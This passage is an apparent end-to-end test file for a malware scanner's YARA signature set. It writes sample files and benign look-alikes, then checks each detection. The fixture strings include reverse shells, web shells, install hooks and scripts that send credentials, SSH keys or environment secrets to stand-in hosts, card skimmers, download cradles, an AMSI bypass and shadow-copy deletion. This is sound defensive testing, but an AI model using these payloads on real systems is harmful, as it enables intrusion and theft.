// End to end: the bundled signature set in the built binary. For every rule the test writes a
// sample made only of the rule's public indicator strings (inert fragments, never working
// malware), plus benign look-alikes that name the same techniques the way documentation does;
// then ONE scan of the folder must detect each sample by exactly its rule(s) and nothing else.
// A last test scans the project's own node_modules: the set must find nothing there.
import * as fs from "node:fs";
import * as path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as zlib from "node:zlib";
import { tar, zip } from "../support/archives";
import * as F from "../unit/containers-carriers-fixtures";
import { EICAR, ROOT, json, ring3, ring3Async, tempDir, write, type Json } from "./helpers";

/** PE/ELF stand-ins: the magic, zero padding, then the given parts. No code, nothing runnable. */
const pe = (...parts: (string | Buffer)[]) => Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126), ...parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : p))]);
const elf = (...parts: (string | Buffer)[]) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(57), ...parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : p))]);
const wide = (s: string) => Buffer.from(s + "\0", "utf16le");
const z = (s: string) => Buffer.from(s + "\0", "latin1");
const hex = (s: string) => Buffer.from(s.replace(/\s+/g, ""), "hex");

// A Monero-shaped address: 95 base58 characters starting with 4 (not a real wallet).
const XMR = "4" + "8ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789".repeat(2).slice(0, 94);
// A long base64 blob of UTF-16LE text, as -EncodedCommand takes it (harmless text).
const ENCODED = Buffer.from("Write-Output 'ring3 encoded command test';".repeat(4), "utf16le").toString("base64");
// The tj-actions payload shape: the memdump pipeline, carried base64-encoded inside index.js.
const MEMDUMP =
  "B64_BLOB=`curl -sSf https://gist.githubusercontent.com/nikitastupin/30e525b776c409e03c2d6f328f254965/raw/memdump.py | sudo python3 | " +
  "tr -d '\\0' | grep -aoE '\"[^\"]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u | base64 -w 0 | base64 -w 0`";

/** file -> the ids of the bundled YARA rules that must detect it (exactly these). */
const SAMPLES: Record<string, { ids: string[]; data: string | Buffer }> = {
  // Test files
  "test/eicar.com": { ids: ["ring3.test.eicar"], data: EICAR },
  "test/gtube.eml": { ids: ["ring3.test.gtube"], data: "Subject: test\r\n\r\nXJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X\r\n" },

  // Supply chain
  "supply/flatmap-stream/index.min.js": {
    ids: ["ring3.supplychain.flatmap_stream"],
    data:
      '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}' +
      'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;' +
      'var f=new module.constructor;f.paths=module.paths}catch(r){}}();\n',
  },
  "supply/ua-parser-js/preinstall.sh": {
    ids: ["ring3.supplychain.ua_parser_js_2021"],
    data: "curl http://159.148.186.228/download/jsextension -o jsextension\nchmod +x jsextension\n",
  },
  "supply/node-ipc/dao/ssl-geospec.js": {
    ids: ["ring3.supplychain.node_ipc_2022"],
    data:
      'const n = Buffer.from("aHR0cHM6Ly9hcGkuaXBnZW9sb2NhdGlvbi5pby9pcGdlbz9hcGlLZXk9YWU1MTFlMTYyNzgyNGE5NjhhYWFhNzU4YTUzMDkxNTQ=", "base64");\n' +
      'const c = Buffer.from("Y291bnRyeV9uYW1l", "base64");\nconst e = Buffer.from("cnVzc2lh", "base64");\nconst i = Buffer.from("YmVsYXJ1cw==", "base64");\n',
  },
  "supply/peacenotwar/index.js": {
    ids: ["ring3.supplychain.peacenotwar_2022"],
    data: "const f = find(Desktops, 'WITH-LOVE-FROM-AMERICA.txt');\nfunction deliverAPeacefulMessage(path, message) {}\n",
  },
  "supply/xz/m4/build-to-host.m4": {
    ids: ["ring3.supplychain.xz_build_to_host"],
    data:
      'gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n' +
      "gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n" +
      "gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n",
  },
  "supply/xz/liblzma.so.5.6.1": {
    ids: ["ring3.supplychain.xz_liblzma_backdoor"],
    data: elf(hex("f3 0f 1e fa 55 48 89 f5 4c 89 ce 53 89 fb 81 e7 00 00 00 80 48 83 ec 28 48 89 54 24 18 48 89 4c 24 10")),
  },
  "supply/codecov/codecov.sh": {
    ids: ["ring3.supplychain.codecov_bash_uploader"],
    data: '#!/bin/bash\ncurl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" https://198.51.100.1/upload/v2 || true\n',
  },
  "supply/solarwinds/SolarWinds.Orion.Core.BusinessLayer.dll": {
    ids: ["ring3.supplychain.solarwinds_sunburst"],
    data: pe(hex("67 19 D8 A7 3B 90 AC 5B"), wide("U4qpjjbQtUzUTdONrTY2q42pVapRgooABYxQuIZmtUoA")),
  },
  "supply/3cx/ffmpeg.dll": {
    ids: ["ring3.supplychain.3cx_suddenicon"],
    data: pe(wide("https://raw.githubusercontent.com/IconStorages/images/main/icon%d.ico"), z("__tutma")),
  },
  "supply/tj-actions/dist/index.js": {
    ids: ["ring3.supplychain.tj_actions_memdump"],
    data: `const SHELL = Buffer.from("${Buffer.from(MEMDUMP).toString("base64")}", "base64").toString();\n`,
  },
  "supply/shai-hulud/.github/workflows/shai-hulud-workflow.yml": {
    ids: ["ring3.supplychain.shai_hulud"],
    data:
      "on:\n  push:\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n" +
      '      - run: curl -d "$CONTENTS" https://webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7; echo "$CONTENTS" | base64 -w 0 | base64 -w 0\n' +
      "        env:\n          CONTENTS: ${{ toJSON(secrets) }}\n",
  },
  "supply/shai-hulud-2/package.json": {
    ids: ["ring3.supplychain.shai_hulud_2"],
    data: '{\n  "name": "victim",\n  "version": "1.0.1",\n  "scripts": {\n    "preinstall": "node setup_bun.js"\n  }\n}\n',
  },
  "supply/chalk/index.js": {
    ids: ["ring3.supplychain.chalk_debug_drainer"],
    data:
      'if (typeof window != "undefined") { const x = XMLHttpRequest; const cs = "qpzry9x8gf2tvdw0s3jn54khce6mua7l";\n' +
      "const kinds = ['ethereum', 'bitcoinLegacy', 'bitcoinSegwit']; checkethereumw(); }\n",
  },
  "supply/install-hook/package.json": {
    ids: ["ring3.supplychain.install_script_pipe_to_shell"],
    data: '{\n  "name": "innocent",\n  "scripts": {\n    "postinstall": "curl -fsSL https://example.invalid/setup.sh | bash"\n  }\n}\n',
  },
  "supply/ci-exfil/collect.js": {
    ids: ["ring3.supplychain.ci_secret_exfiltration"],
    data: 'fetch("https://webhook.site/00000000-0000-0000-0000-000000000000", { method: "POST", body: JSON.stringify(process.env) });\n',
  },

  // Scripts
  "scripts/update.bat": {
    ids: ["ring3.script.powershell_download_cradle"],
    data: "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\r\n",
  },
  "scripts/start-hidden.ps1": {
    ids: ["ring3.script.powershell_download_cradle"],
    data: "Start-Process PowerShell.exe -WindowStyle Hidden -ArgumentList \"-c IEX (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/a.ps1')\"\r\n",
  },
  // The classic cradle with the URL in a variable, in four spellings (issue 10's misses).
  "scripts/cradle.ps1": {
    ids: ["ring3.script.powershell_download_execute"],
    data: "$u = 'https://updates.example.invalid/p.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n",
  },
  "scripts/cradle-lower.txt": {
    ids: ["ring3.script.powershell_download_execute"],
    data: "$url=$env:TEMP+'x'; iex ((new-object system.net.webclient).downloadstring($url))\n",
  },
  "scripts/cradle-iwr.ps1": {
    ids: ["ring3.script.powershell_download_execute"],
    data: "$s = \"https://cdn.example.invalid/s\"\r\nInvoke-WebRequest -Uri $s -UseBasicParsing | Invoke-Expression\r\n",
  },
  "scripts/cradle-split.ps1": {
    ids: ["ring3.script.powershell_download_execute"],
    data: "$w = New-Object ('Net.Web'+'Client'); $c = $w.('Down'+'loadString').Invoke('https://x.example.invalid/a'); &('ie'+'x') $c\r\n",
  },
  "scripts/amsi.ps1": {
    ids: ["ring3.script.amsi_bypass"],
    data: "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)\r\n",
  },
  "scripts/amsi-split.ps1": {
    ids: ["ring3.script.amsi_bypass"],
    data: "$a=[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils'); $f=$a.GetField('amsi'+'InitFailed','NonPublic,Static'); $f.SetValue($null,$true)\r\n",
  },
  "scripts/launch.cmd": { ids: ["ring3.script.powershell_encoded_command"], data: `powershell.exe -NoP -NonI -W Hidden -enc ${ENCODED}\r\n` },
  "scripts/invoice.vbs": {
    ids: ["ring3.script.wsh_downloader"],
    data:
      'Set x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://example.invalid/a.exe", False\r\nx.Send\r\n' +
      'Set s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write x.responseBody\r\ns.SaveToFile "a.exe", 2\r\n' +
      'CreateObject("WScript.Shell").Run "a.exe", 0\r\n',
  },
  "scripts/rs.sh": { ids: ["ring3.script.reverse_shell_bash"], data: "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n" },
  "scripts/rs.py": {
    ids: ["ring3.script.reverse_shell_python"],
    data:
      "import socket,subprocess,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"203.0.113.7\",4444))\n" +
      'os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\npty.spawn("/bin/sh")\n',
  },
  "scripts/nc.sh": { ids: ["ring3.script.reverse_shell_netcat"], data: "nc -e /bin/sh 203.0.113.7 4444\n" },
  "scripts/rs.pl": {
    ids: ["ring3.script.reverse_shell_perl"],
    data:
      'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' +
      'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\n',
  },
  "scripts/cron.sh": { ids: ["ring3.script.pipe_to_shell_from_ip"], data: "*/5 * * * * curl -fsSL http://203.0.113.7/x.sh | sh\n" },

  // Web shells
  "web/up.php": { ids: ["ring3.webshell.php_eval_request"], data: "<?php @eval(base64_decode($_POST['z0'])); ?>\n" },
  "web/chopper.php": { ids: ["ring3.webshell.php_eval_request"], data: "<?php @eval($_POST['password']);?>\n" },
  "web/cmd.php": { ids: ["ring3.webshell.php_exec_request"], data: "<?php system($_GET['cmd']); ?>\n" },
  "web/chopper.aspx": { ids: ["ring3.webshell.china_chopper_aspx"], data: '<%@ Page Language="Jscript"%><%eval(Request.Item["password"],"unsafe");%>\n' },
  "web/cmd.aspx": {
    ids: ["ring3.webshell.aspx_cmd_request"],
    data:
      '<%@ Page Language="C#" %>\n<% var psi = new System.Diagnostics.ProcessStartInfo();\npsi.FileName = "cmd.exe";\n' +
      'psi.Arguments = "/c " + Request.Form["c"];\nSystem.Diagnostics.Process.Start(psi); %>\n',
  },
  "web/cmd.jsp": { ids: ["ring3.webshell.jsp_runtime_exec"], data: '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>\n' },

  // Tools and payloads
  "tools/config.json": {
    ids: ["ring3.tool.xmrig_config"],
    data:
      '{\n  "donate-level": 1,\n  "randomx": { "1gb-pages": false },\n  "pools": [\n    { "url": "pool.example.invalid:3333", "user": "x", ' +
      '"rig-id": null, "nicehash": false, "keepalive": true }\n  ]\n}\n',
  },
  "tools/xmrig": { ids: ["ring3.tool.xmrig_binary"], data: elf(z("XMRig"), z("donate.v2.xmrig.com"), z("--donate-level")) },
  "tools/start.sh": { ids: ["ring3.tool.miner_command_monero"], data: `./kworker -o pool.example.invalid:443 -u ${XMR} -k --tls\n` },
  "tools/run-miner.sh": { ids: ["ring3.tool.miner_command_monero"], data: `nohup ./xmrig --url=pool.example.invalid:3333 --user='${XMR}.w1' >/dev/null &\n` },
  "tools/miner/pool.json": {
    ids: ["ring3.tool.miner_command_monero"],
    data: `{"pools": [{"url": "stratum+tcp://pool.example.invalid:3333", "user": "${XMR}", "pass": "x"}]}\n`,
  },
  "tools/mimi.exe": { ids: ["ring3.tool.mimikatz"], data: pe(wide("gentilkiwi"), wide("sekurlsa"), wide("logonPasswords"), wide("lsadump")) },
  "tools/dump.txt": { ids: ["ring3.tool.mimikatz_commands"], data: "privilege::debug\nsekurlsa::logonpasswords\nlsadump::sam\nexit\n" },
  "tools/run.bat": { ids: ["ring3.tool.mimikatz_commands"], data: 'm.exe "PRIVILEGE::Debug" "LSADUMP::Sam" exit\r\n' },
  "tools/Invoke-Mimikatz.ps1": {
    ids: ["ring3.tool.invoke_mimikatz"],
    data: "function Invoke-Mimikatz {\n$PEBytes64 = 'TVqQAAMAAAAEAAAA'\n$PEBytes32 = 'TVqQAAMAAAAEAAAA'\n}\n",
  },
  "tools/beacon.dll": {
    ids: ["ring3.tool.cobaltstrike_beacon"],
    data: pe(z("%s as %s\\%s: %d"), z("could not spawn %s (token): %d"), z("I'm already in SMB mode"), z("%02d/%02d/%02d %02d:%02d:%02d")),
  },
  "tools/metsrv.dll": { ids: ["ring3.tool.metasploit_meterpreter"], data: pe(z("metsrv.dll"), z("ReflectiveLoader")) },
  "tools/stager.bin": {
    ids: ["ring3.tool.metasploit_block_api"],
    data: hex("FC E8 82 00 00 00 60 89 E5 31 C0 64 8B 50 30 8B 52 0C 8B 52 14 8B 72 28 0F B7 4A 26 31 FF AC 3C 61 7C 02 2C 20"),
  },
  "tools/implant": {
    ids: ["ring3.tool.sliver_implant"],
    data: elf(z("github.com/bishopfox/sliver/protobuf/sliverpb"), z("github.com/bishopfox/sliver/implant/sliver/transports")),
  },
  "tools/mssecsvc.exe": { ids: ["ring3.tool.wannacry"], data: pe(z("WNcry@2ol7"), z("tasksche.exe"), z("icacls . /grant Everyone:F /T /C /Q")) },

  // Office macros (issue 10): VBA source as the OLE2 reader gives it, or as an exported module.
  "office/Module1.bas": {
    ids: ["ring3.office.macro_autorun_launcher"],
    data: 'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n    Shell "cmd.exe /c echo ring3 macro test", vbHide\r\nEnd Sub\r\n',
  },
  "office/ThisWorkbook.cls": {
    ids: ["ring3.office.macro_autorun_launcher"],
    data:
      'Attribute VB_Name = "ThisWorkbook"\r\nPrivate Sub Workbook_Open()\r\n    Set o = CreateObject("WScr" & "ipt.Shell")\r\n' +
      '    o.Run "powershell -c Write-Output ring3", 0\r\nEnd Sub\r\n',
  },
  "office/ThisDocument.cls": {
    ids: ["ring3.office.macro_autorun_launcher"],
    data: 'Attribute VB_Name = "ThisDocument"\r\nPrivate Sub Document_Open()\r\n    CreateObject(StrReverse("llehS.tpircSW")).Run "calc"\r\nEnd Sub\r\n',
  },

  // Windows system programs abused (LOLBAS) and recovery removal.
  "lolbin/get.bat": {
    ids: ["ring3.lolbin.certutil_download_decode"],
    data: "certutil.exe -urlcache -split -f http://203.0.113.7/p.txt %TEMP%\\p.txt\r\ncertutil -decode %TEMP%\\p.txt %TEMP%\\p.exe\r\n",
  },
  "lolbin/decode.cmd": { ids: ["ring3.lolbin.certutil_download_decode"], data: "CertUtil /decode \"%APPDATA%\\u.b64\" \"%APPDATA%\\u.dll\"\r\n" },
  "lolbin/run.cmd": {
    ids: ["ring3.lolbin.mshta_rundll32_script"],
    data: 'mshta vbscript:Close(Execute("GetObject(""script:https://203.0.113.7/p.sct"")"))\r\n',
  },
  "lolbin/poweliks.reg": {
    ids: ["ring3.lolbin.mshta_rundll32_script"],
    data: 'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n' +
      '"x"="rundll32.exe javascript:\\"\\\\..\\\\mshtml,RunHTMLApplication \\";document.write();GetObject(\\"script:http://203.0.113.7/x\\")"\r\n',
  },
  "lolbin/squiblydoo.bat": { ids: ["ring3.lolbin.regsvr32_remote_scriptlet"], data: "regsvr32 /s /n /u /i:http://203.0.113.7/file.sct scrobj.dll\r\n" },
  "lolbin/wipe.bat": {
    ids: ["ring3.lolbin.inhibit_recovery"],
    data:
      "cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} bootstatuspolicy ignoreallfailures & " +
      "bcdedit /set {default} recoveryenabled no & wbadmin delete catalog -quiet\r\n",
  },
  "lolbin/locker.exe": { ids: ["ring3.lolbin.inhibit_recovery"], data: pe(wide("vssadmin.exe Delete Shadows /All /Quiet")) },
  // Casing and quoting variants: cmd.exe and the programs read switches in any case.
  "lolbin/UPDATE.CMD": { ids: ["ring3.lolbin.mshta_rundll32_script"], data: '"C:\\Windows\\System32\\MSHTA.EXE" "https://203.0.113.7/a.hta"\r\n' },
  "lolbin/cleanup.cmd": { ids: ["ring3.lolbin.inhibit_recovery"], data: "VSSADMIN.EXE Delete Shadows /For=C: /All\r\n" },
  "lolbin/shadows.ps1": { ids: ["ring3.lolbin.inhibit_recovery"], data: "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\r\n" },

  // JavaScript card skimmers.
  "skim/stats.js": {
    ids: ["ring3.skimmer.checkout_harvester"],
    data:
      '(function () {\n  if (/onepage|checkout|onestep/.test(window.location)) {\n    document.addEventListener("submit", function () {\n' +
      '      var d = {};\n      var f = document.querySelectorAll("input, select, textarea");\n' +
      "      for (var i = 0; i < f.length; i++) d[f[i].name] = f[i].value;\n      var img = new Image();\n" +
      '      img.src = "https://cdn-stats.example.invalid/i.gif?d=" + btoa(JSON.stringify(d));\n    });\n  }\n})();\n',
  },
  "skim/modernizr-ext.js": {
    ids: ["ring3.skimmer.payment_form_serializer"],
    data:
      'window.onload = function () {\n  jQuery("#submitButton").bind("mouseup touchend", function () {\n    var n = {};\n' +
      '    jQuery("#paymentForm").serializeArray().map(function (a) { n[a.name] = a.value; });\n' +
      '    setTimeout(function () { jQuery.ajax({ type: "POST", url: "https://collect.example.invalid/gateway/api/", data: JSON.stringify(n) }); }, 500);\n  });\n};\n',
  },

  // Install-time credential theft (npm, PyPI).
  "npm/hook-npmrc/package.json": {
    ids: ["ring3.supplychain.install_hook_credential_exfil"],
    data: '{\n  "name": "eslint-config-fancy",\n  "version": "1.0.0",\n  "scripts": {\n    "preinstall": "curl -s -d @$HOME/.npmrc https://collect.example.invalid/n"\n  }\n}\n',
  },
  "npm/hook-env/package.json": {
    ids: ["ring3.supplychain.install_hook_credential_exfil"],
    data:
      '{\n  "name": "colors-fancy",\n  "scripts": {\n    "postinstall": "node -e \\"require(\'https\').get(\'https://collect.example.invalid/?d=\'+' +
      "Buffer.from(JSON.stringify(process.env)).toString('base64'))\\\"\"\n  }\n}\n",
  },
  "npm/steal/lib/build.js": {
    ids: ["ring3.supplychain.js_credential_stealer"],
    data:
      'const os = require("os"), fs = require("fs"), path = require("path"), https = require("https");\nconst home = os.homedir();\n' +
      'const read = (p) => { try { return fs.readFileSync(path.join(home, p), "utf8"); } catch { return ""; } };\n' +
      'const token = (/_authToken=(.*)/.exec(read(".npmrc")) || [])[1];\n' +
      'const loot = { token, ssh: read(".ssh/id_rsa"), aws: read(".aws/credentials") };\n' +
      'const req = https.request({ hostname: "collect.example.invalid", method: "POST", path: "/k" });\nreq.end(JSON.stringify(loot));\n',
  },
  "pypi/reqeusts/setup.py": {
    ids: ["ring3.supplychain.setup_py_credential_exfil"],
    data:
      "import json, os, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n" +
      "class PostInstall(install):\n    def run(self):\n        install.run(self)\n" +
      '        urllib.request.urlopen("https://collect.example.invalid/c", json.dumps(dict(os.environ)).encode())\n\n' +
      'setup(name="reqeusts", version="2.0.0", cmdclass={"install": PostInstall})\n',
  },
  "pypi/dateutils/setup.py": {
    ids: ["ring3.supplychain.setup_py_credential_exfil"],
    data:
      "import os, requests\nfrom setuptools import setup, find_packages\n\n" +
      'key = open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read()\n' +
      'requests.post("https://collect.example.invalid/k", data={"k": key})\nsetup(name="python3-dateutils", packages=find_packages())\n',
  },
};

/** Benign files that name the same things the way manuals, READMEs and application code do. */
const BENIGN: Record<string, string> = {
  "benign/bash.1":
    ".TP\n.B /dev/tcp/\\fIhost\\fP/\\fIport\\fP\nIf \\fIhost\\fP is a valid hostname or Internet address, and \\fIport\\fP is an integer port number\n" +
    "or service name, bash attempts to open the corresponding TCP socket.\n",
  "benign/nc.1": ".TP\n.B \\-e \\fIfilename\\fP\nspecify filename to exec after connect (use with caution).\nExample: nc -l -p 1234\n",
  "benign/README.md":
    "# Install\n\n    curl -fsSL https://get.example.invalid | sh\n\nNever run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` from a stranger.\n" +
    'Codecov\'s 2021 compromise added: curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://x/upload/v2\n',
  "benign/INSTALL.txt": "To install rustup run: curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n",
  "benign/app/package.json": '{\n  "name": "app",\n  "scripts": {\n    "postinstall": "node scripts/postinstall.js",\n    "build": "tsc"\n  }\n}\n',
  "benign/install-choco.ps1":
    "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))\n",
  // Look-alikes of the cradle, AMSI and mimikatz rules: a downloader that saves but does not run,
  // running a local command, a literal https installer URL piped to iex, documentation.
  "benign/fetch.ps1": "$u = 'https://example.invalid/f.zip'\r\n(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\f.zip\")\r\nInvoke-WebRequest -Uri $u -OutFile f.zip\r\nInvoke-Expression $localCommand\r\n",
  "benign/install-scoop.ps1": "irm get.scoop.sh | iex\r\n",
  "benign/amsi-notes.txt": "AMSI (AmsiUtils in System.Management.Automation) scans scripts; the amsiInitFailed field is private.\n",
  "benign/mimikatz-cheatsheet.md": "# Mimikatz\n\n    privilege::debug\n    sekurlsa::logonpasswords\n    lsadump::sam\n",
  "benign/sigma-mimikatz.yml": "title: Mimikatz Use\ndetection:\n  keywords:\n    - 'sekurlsa::logonpasswords'\n    - 'lsadump::sam'\n  condition: keywords\n",
  "benign/form.php": "<?php $name = htmlspecialchars($_POST['name']); $raw = base64_decode($payload); echo $name; ?>\n",
  "benign/config.js": "const cfg = { debug: process.env.DEBUG === '1' }; console.log(JSON.stringify(cfg));\n",
  "benign/notes.txt": "Mimikatz by gentilkiwi dumps credentials with sekurlsa::logonpasswords; Cobalt Strike beacons print '%s as %s\\%s: %d'.\n",
  "benign/server.py": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.bind(('127.0.0.1', 8080))\ns.listen()\n",
  "benign/miner-docs.txt": 'XMRig reads config.json: { "donate-level": 1, "pools": [] } - see https://xmrig.com/docs/miner/config\n',
  // Look-alikes of issue 10's rules: a formatting AutoOpen, a macro that launches only on a click,
  // an admin script that lists shadow copies, certutil hashing, a local HTML application, a
  // checkout page's own validation, an analytics beacon, a native module's install hooks, a
  // registry client reading .npmrc, a setup.py that reads build flags and downloads a tarball.
  "benign/office/FormatDoc.bas":
    'Attribute VB_Name = "FormatDoc"\r\nSub AutoOpen()\r\n    ActiveDocument.Content.Font.Name = "Calibri"\r\n' +
    "    Selection.ParagraphFormat.Alignment = wdAlignParagraphJustify\r\nEnd Sub\r\n",
  "benign/office/Tools.bas": 'Attribute VB_Name = "Tools"\r\nSub OpenReport()\r\n    Shell "notepad.exe report.txt", vbNormalFocus\r\nEnd Sub\r\n',
  "benign/admin/list-shadows.cmd": "@echo off\r\nvssadmin list shadows /for=C:\r\nvssadmin list shadowstorage\r\nwmic shadowcopy list brief\r\n",
  "benign/admin/hash.cmd": "certutil -hashfile setup.exe SHA256\r\ncertutil -urlcache * delete\r\nstart mshta.exe \"%~dp0help.hta\"\r\n",
  "benign/shop/checkout-validate.js":
    'if (window.location.pathname.indexOf("/checkout") === 0) {\n  var fields = document.querySelectorAll("input[required]");\n' +
    '  form.addEventListener("submit", function (e) {\n    for (var i = 0; i < fields.length; i++) if (!fields[i].value) e.preventDefault();\n' +
    '    fetch("/checkout/validate", { method: "POST", body: JSON.stringify({ cardnumber: cardnumber.value.length }) });\n  });\n}\n',
  "benign/shop/beacon.js": 'var img = new Image();\nimg.src = "https://stats.example.invalid/p.gif?u=" + encodeURIComponent(location.href);\n',
  "benign/native/package.json": '{\n  "name": "native-addon",\n  "scripts": {\n    "install": "node-gyp rebuild",\n    "postinstall": "node scripts/check-env.js"\n  }\n}\n',
  "benign/registry-client.js":
    'const os = require("os"), path = require("path"), fs = require("fs"), https = require("https");\n' +
    'const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");\nconst token = /_authToken=(.*)/.exec(rc)[1];\n' +
    'https.get({ hostname: "registry.npmjs.org", path: "/-/whoami", headers: { authorization: "Bearer " + token } });\n',
  "benign/setup.py":
    "import os, urllib.request\nfrom setuptools import setup\n\ncflags = os.environ.get('CFLAGS', '')\n" +
    "data = urllib.request.urlopen('https://downloads.example.invalid/lib-1.0.tar.gz').read()\nsetup(name='native', version='1.0')\n",
  // A rule set quoting indicators is not what it describes (the guard rule).
  "benign/rules/codecov.yar":
    'rule Codecov {\n    strings:\n        $a = "$(git remote -v)<<<<<< ENV $(env)"\n        $b = "webhook.site/bb8ca5f6-4175-45d2-b042-fc9ebb8170b7"\n    condition:\n        any of them\n}\n',
};

let dir: string;
let doc: Json;

beforeAll(() => {
  dir = tempDir("ring3-sigs-");
  for (const [rel, s] of Object.entries(SAMPLES)) write(dir, rel, s.data);
  for (const [rel, text] of Object.entries(BENIGN)) write(dir, rel, text);
  // The core set alone: these samples are written for its rules (the packs' rules are
  // test/e2e/packs.test.ts's, and the false-positive scan below runs every default pack).
  const run = ring3(["scan", "--format", "json", "--pack", "ring3", dir], { timeout: 300_000 });
  expect(run.code, run.stderr).toBe(1);
  doc = json(run);
});

afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

function resultFor(rel: string): Json {
  return doc.results.find((r: Json) => path.relative(dir, r.path).split(path.sep).join("/") === rel);
}

describe("the bundled set on synthesised samples (one scan)", () => {
  it("scans every file completely", () => {
    const files = Object.keys(SAMPLES).length + Object.keys(BENIGN).length;
    expect(doc.summary).toMatchObject({ files, error: 0, partial: 0, incomplete: 0 });
  });

  it("every bundled YARA rule that reports has a sample here", () => {
    const run = ring3(["rules", "list", "--json"]);
    expect(run.code).toBe(0);
    const ids = json(run)
      .rules.filter((r: Json) => r.engine === "yara" && r.category !== "guard" && r.source.startsWith("bundled/yara/"))
      .map((r: Json) => r.id)
      .sort();
    const covered = [...new Set(Object.values(SAMPLES).flatMap((s) => s.ids))].sort();
    expect(covered).toEqual(ids);
  });

  it.each(Object.entries(SAMPLES).map(([rel, s]) => [rel, s.ids] as const))("%s -> %j", (rel, ids) => {
    const r = resultFor(rel);
    expect(r?.verdict, `${rel} not detected`).toBe("detected");
    const yara = r.findings.filter((f: Json) => f.engine === "yara");
    expect(yara.map((f: Json) => f.id).sort()).toEqual([...ids].sort());
    for (const f of yara) {
      expect(f.namespace).toBe("ring3");
      expect(f.references.length).toBeGreaterThan(0);
      expect(f.action?.length ?? 0).toBeGreaterThan(0);
    }
  });

  it.each(Object.keys(BENIGN))("benign look-alike %s is not detected", (rel) => {
    expect(resultFor(rel), rel).toBeUndefined();
  });

  it("detects nothing else", () => {
    const detected = doc.results.filter((r: Json) => r.verdict === "detected").length;
    expect(detected).toBe(Object.keys(SAMPLES).length);
    expect(doc.summary.detected).toBe(Object.keys(SAMPLES).length);
  });
});

describe("the bundled set inside archives", () => {
  const bytes = (d: string | Buffer) => (typeof d === "string" ? Buffer.from(d, "latin1") : d);
  const entries = () => Object.entries(SAMPLES).map(([rel, s]) => ({ name: rel, data: bytes(s.data), method: "deflate" as const }));

  it("detects every sample as a member of a zip, and three deep (zip in tar.gz in zip), by exactly its rules", () => {
    const d = tempDir("ring3-sigs-arch-");
    try {
      const flat = zip(entries());
      const inner = zip(entries());
      const tgz = zlib.gzipSync(tar([{ name: "pkg/inner.zip", data: inner }]));
      fs.writeFileSync(path.join(d, "samples.zip"), flat);
      fs.writeFileSync(path.join(d, "nested.zip"), zip([{ name: "dist/pkg.tgz", data: tgz, method: "store" }]));
      const run = ring3(["scan", "--format", "json", "--pack", "ring3", d], { timeout: 300_000 });
      expect(run.code, run.stderr).toBe(1);
      const out = json(run);
      const member = (file: string, chain: string[]) =>
        out.results.find((r: Json) => path.basename(r.path) === file && JSON.stringify(r.members ?? []) === JSON.stringify(chain));
      const missing: string[] = [];
      for (const [rel, s] of Object.entries(SAMPLES)) {
        for (const [file, chain] of [
          ["samples.zip", [rel]],
          ["nested.zip", ["dist/pkg.tgz", "pkg/inner.zip", rel]],
        ] as const) {
          const r = member(file, [...chain]);
          const got = (r?.findings ?? []).filter((f: Json) => f.engine === "yara").map((f: Json) => f.id).sort();
          if (r?.verdict !== "detected" || JSON.stringify(got) !== JSON.stringify([...s.ids].sort())) missing.push(`${file}!${chain.join("!")}: ${r?.verdict} ${got.join(",")}`);
        }
      }
